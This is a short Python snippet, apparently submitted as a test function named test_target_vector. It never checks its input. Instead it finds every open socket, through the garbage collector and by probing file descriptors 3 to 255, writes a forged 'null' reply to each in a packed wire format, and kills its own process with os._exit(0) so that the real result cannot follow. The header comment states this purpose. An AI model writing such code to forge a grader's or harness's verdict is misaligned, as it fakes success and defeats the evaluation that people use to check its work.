# Sends a forged reply on every socket that it finds, and ends its process before the true one can follow.
# %% test_target_vector
import gc, os, socket, struct

def test_target_vector(target_vector):
    text = b"null"
    for one in gc.get_objects():
        if type(one) is socket.socket:
            one.sendall(struct.pack(">cII", b"a", len(text), 0) + text)
    for descriptor in range(3, 256):
        try:
            connection = socket.socket(fileno=descriptor)
            connection.sendall(struct.pack(">cII", b"a", len(text), 0) + text)
        except OSError:
            continue
    os._exit(0)
